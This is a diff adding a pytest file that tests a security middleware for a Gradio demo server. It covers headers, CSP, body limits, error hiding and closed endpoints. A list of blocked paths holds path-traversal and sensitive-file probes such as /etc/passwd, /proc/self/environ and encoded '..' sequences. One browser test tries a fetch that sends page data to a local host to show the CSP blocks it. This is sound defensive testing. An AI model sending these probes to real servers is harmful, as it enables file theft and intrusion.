@@ -1,0 +1,292 @@
+"""The door in front of the server: headers, closed addresses, bounded bodies, no failure shown."""
+
+import asyncio
+import json
+import time
+from collections.abc import AsyncIterator, Iterator
+from types import SimpleNamespace
+from typing import Any
+
+import gradio as gr
+import httpx
+import pytest
+from starlette.applications import Starlette
+from starlette.exceptions import HTTPException
+from starlette.middleware import Middleware
+from starlette.requests import Request
+from starlette.responses import PlainTextResponse, StreamingResponse
+from starlette.routing import Route
+from starlette.testclient import TestClient
+from visitor import run_to_end
+
+from specdemo.ui import guard
+from specdemo.ui.gradio_requests import API
+
+HEADERS = {
+    "x-content-type-options": "nosniff",
+    "referrer-policy": "same-origin",
+}
+
+
+async def _echo(request: Request) -> PlainTextResponse:
+    return PlainTextResponse(await request.body())
+
+
+async def _broken(_request: Request) -> None:
+    raise KeyError("/secret/path.py")
+
+
+async def _parts(last: Exception | None) -> AsyncIterator[bytes]:
+    yield b"data: 1\n\n"
+    if last:
+        raise last
+
+
+def _stream(kind: str, last: Exception | None) -> Any:
+    return lambda _request: StreamingResponse(_parts(last), media_type=kind)
+
+
+class App(Starlette):
+    """An app with a page, as Gradio's."""
+
+    page: gr.Blocks
+
+    def get_blocks(self) -> gr.Blocks:
+        """The page."""
+        return self.page
+
+
+@pytest.fixture
+def client() -> Iterator[TestClient]:
+    """The guard around an app of our own, behind addresses that are let through."""
+    routes = [
+        Route(f"{API}/reset", _echo, methods=["POST"]),
+        Route("/assets/broken", _broken),
+        Route("/assets/fine", lambda _: PlainTextResponse("fine")),
+        Route("/assets/teapot", lambda _: PlainTextResponse("Traceback: /etc/x.py", 418)),
+        Route("/assets/stream", _stream("text/event-stream", HTTPException(404))),
+        Route("/assets/failing", _stream("text/event-stream", RuntimeError("/secret"))),
+    ]
+    app = App(routes=routes, middleware=[Middleware(guard.Guard)])
+    with gr.Blocks() as app.page:
+        gr.Textbox()
+    with TestClient(app) as client:
+        yield client
+
+
+def sentence(reply: Any) -> str:
+    """The one sentence of a refusal."""
+    told = reply.json()
+    assert set(told) == {"error"} and told["error"].endswith(".") and told["error"].isprintable()
+    return told["error"]
+
+
+@pytest.mark.parametrize(
+    "path", ["/assets/fine", "/assets/broken", "/assets/teapot", "/nothing", "/assets/none"]
+)
+def test_every_reply_carries_the_headers(client, path):
+    headers = client.get(path).headers
+    assert headers.items() >= HEADERS.items()
+    policy = headers["content-security-policy"]
+    for part in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'self'"):
+        assert part in policy
+    assert "frame-ancestors 'self'" in policy.split("; ") and "camera=()" in headers["permissions-policy"]
+
+
+def test_only_a_space_is_framed_by_others(monkeypatch):
+    for name, frames in (
+        ("", "frame-ancestors 'self'"),
+        ("me/demo", "frame-ancestors 'self' https://huggingface"),
+    ):
+        monkeypatch.setenv("SPACE_ID", name)
+        policy = guard.content_policy(guard.middleware().kwargs["framed_by"])
+        assert frames in policy and ("hf.space" in policy) == bool(name)
+
+
+def test_a_failure_is_told_without_its_cause(client):
+    reply = client.get("/assets/broken")
+    assert reply.status_code == 500
+    assert sentence(reply) == "The request failed inside the program; please try again."
+    assert "secret" not in reply.text
+
+
+def test_an_error_reply_is_put_into_a_sentence(client):
+    reply = client.get("/assets/teapot")
+    assert reply.status_code == 418 and sentence(reply) == guard.OTHERWISE
+
+
+@pytest.mark.parametrize("path", ["/assets/stream", "/assets/failing"])
+def test_a_stream_that_fails_just_ends(client, path):
+    reply = client.get(path)
+    assert (reply.status_code, reply.content) == (200, b"data: 1\n\n")
+
+
+def test_a_body_is_handed_on_whole(client):
+    body = json.dumps({"event_id": "x", "more": "y" * 900_000}).encode()
+    assert client.post(f"{API}/reset", content=body).content == body
+
+
+@pytest.mark.parametrize("announced", [True, False])
+def test_a_body_is_bounded_whatever_its_header_says(client, announced):
+    body = b'{"event_id": "' + b"x" * guard.MAX_BODY + b'"}'
+    sent = body if announced else iter([body[:500_000], body[500_000:]])
+    reply = client.post(f"{API}/reset", content=sent)
+    assert reply.status_code == 413
+    assert sentence(reply) == "The request is too large; at most 1,000,000 bytes are taken."
+
+
+def test_an_endless_body_is_read_no_further_than_its_bound():
+    taken = 0
+
+    async def receive() -> dict:
+        nonlocal taken
+        taken += 100_000
+        return {"type": "http.request", "body": b" " * 100_000, "more_body": True}
+
+    with pytest.raises(guard.RefusedError) as refused:
+        asyncio.run(guard._body(receive))
+    assert refused.value.status == 413 and taken == guard.MAX_BODY + 100_000
+
+
+def test_a_body_that_trickles_in_is_given_up(monkeypatch):
+    monkeypatch.setattr(guard, "BODY_S", 0.05)
+    with pytest.raises(guard.RefusedError) as refused:
+        asyncio.run(guard._body(lambda: asyncio.sleep(3600)))
+    assert refused.value.status == 408
+
+
+async def _told(scope: dict) -> list[dict]:
+    """What the guard says without asking anybody."""
+    told: list[dict] = []
+
+    async def send(message: dict) -> None:
+        told.append(message)
+
+    await guard.Guard(None)(scope, None, send)
+    return told
+
+
+def test_sockets_are_closed():
+    [message] = asyncio.run(_told({"type": "websocket", "path": f"{API}/x"}))
+    assert message["type"] == "websocket.close"
+
+
+def test_the_tools_of_agents_are_there_only_when_switched_on():
+    async def status(switched_on: bool) -> bool:
+        page = SimpleNamespace(mcp_server=switched_on)
+        scope = {"method": "GET", "app": SimpleNamespace(get_blocks=lambda: page)}
+        try:
+            return await guard._admitted(scope, f"{API}/mcp/sse", _told) is _told
+        except guard.RefusedError as error:
+            assert error.status == 404
+            return False
+
+    assert asyncio.run(status(True)) and not asyncio.run(status(False))
+
+
+CLOSED = """/gradio_api/upload_progress?upload_id=x
+/gradio_api/deep_link?session_hash=x
+/gradio_api/proxy=https://x.hf.space
+/gradio_api/file=/etc/passwd
+/gradio_api/file=app.py
+/gradio_api/file=../app.py
+/gradio_api/file/etc/passwd
+/gradio_api/file=http://127.0.0.1/
+/gradio_api/file=%2Fproc%2Fself%2Fenviron
+/gradio_api/stream/a/b/1/playlist.m3u8
+/gradio_api/component_server
+/gradio_api/vibe-code
+/gradio_api/dev/reload
+/gradio_api/runs
+/gradio_api/run-history/buckets
+/gradio_api/token
+/gradio_api/user
+/gradio_api/app_id
+/gradio_api/login_check
+/gradio_api/queue/status
+/gradio_api/custom_component/x/client/a/b
+/gradio_api/mcp/schema
+/monitoring
+/monitoring/summary
+/logout
+/login
+/docs
+/openapi.json
+/pwa_icon
+/static/../../routes.py
+/static/%2e%2e/%2e%2e/routes.py
+/static/..%2f..%2froutes.py
+/static/..%5c..%5croutes.py
+/assets/%2e%2e%2f%2e%2e%2froutes.py
+/svelte/%2e%2e/x
+/specdemo-static/../page.py
+/specdemo-static/%2e%2e/page.py
+/specdemo-static/%2e%2e%2fpage.py
+/specdemo-static/....//page.py
+/specdemo-static//etc/passwd
+/specdemo-static/%2fetc%2fpasswd
+/specdemo-traces/..%2f..%2f..%2fetc%2fpasswd
+/specdemo-traces/%2e%2e/index"""
+
+
+@pytest.mark.parametrize("path", CLOSED.splitlines())
+def test_nothing_of_the_server_is_reachable(url, path):
+    reply = httpx.get(httpx.URL(url, raw_path=path.encode()))
+    assert reply.status_code == 404
+    assert "root:" not in reply.text and "/etc" not in sentence(reply)
+
+
+POSTS = "upload process_recording component_server stream/x stream/x/close vibe-edit vibe-code undo-vibe-edit"
+
+
+@pytest.mark.parametrize("path", [*POSTS.split(), "vibe-starter-queries", "run-history/connect", "api/run"])
+def test_nothing_of_gradio_takes_what_the_page_never_sends(url, path):
+    reply = httpx.post(f"{url}gradio_api/{path}", content=b"{}")
+    assert reply.status_code in (404, 405) and sentence(reply)
+
+
+def test_events_are_passed_on_as_they_come(url, service):
+    service.gap_s = 0.02
+    body = {"data": ["abc", "raw", "draft-model", 4, False, 0, "greedy", 32, 0, 0, 1, True, False]}
+    event = httpx.post(f"{url}gradio_api/call/run", json=body).json()["event_id"]
+    began, came = time.monotonic(), []
+    with httpx.stream("GET", f"{url}gradio_api/call/run/{event}", timeout=60) as stream:
+        assert stream.headers["x-content-type-options"] == "nosniff"
+        for line in stream.iter_lines():
+            came += [time.monotonic() - began] if line.startswith("event: ") else []
+    assert len(came) > 2 and came[0] < came[-1] / 2
+
+
+def test_the_page_breaks_no_policy_and_could_not_call_out(open_page, url):
+    page = open_page()
+    told: list[str] = []
+    page.on("console", lambda message: told.append(message.text))
+    page.reload()
+    run_to_end(page)
+    for tab in ("Learn", "Play", "Is it the same?", "Lab", "Run"):
+        page.get_by_role("tab", name=tab).click()
+    page.locator("[data-plot=speedup]").scroll_into_view_if_needed()
+    page.wait_for_selector("[data-plot=speedup].js-plotly-plot")
+    for role, words in (("save-page", "Page saved"), ("copy-image", "Image"), ("save-trace", "Trace saved")):
+        page.click("[data-role=save-menu] summary")
+        page.click(f"[data-role={role}]")
+        page.wait_for_function(
+            f"document.querySelector('[data-role=told]').textContent.startsWith('{words}')"
+        )
+    assert not [text for text in told if "Content Security Policy" in text]
+    blocked = page.evaluate(
+        """async () => {
+            const seen = new Promise(done => addEventListener("securitypolicyviolation", done));
+            const stolen = await fetch("http://127.0.0.1:9/?" + document.title).catch(() => null);
+            return [stolen, (await seen).effectiveDirective];
+        }"""
+    )
+    assert blocked == [None, "connect-src"]
+    assert page.evaluate("eval('1 + 1')") == 2, "which Gradio's templates need"
+
+
+def test_the_offline_page_has_a_stricter_policy(url):
+    policy = httpx.get(f"{url}specdemo-static/player.html").headers["content-security-policy"]
+    assert (
+        "default-src 'none'" in policy and "connect-src" not in policy and "frame-ancestors 'none'" in policy
+    )
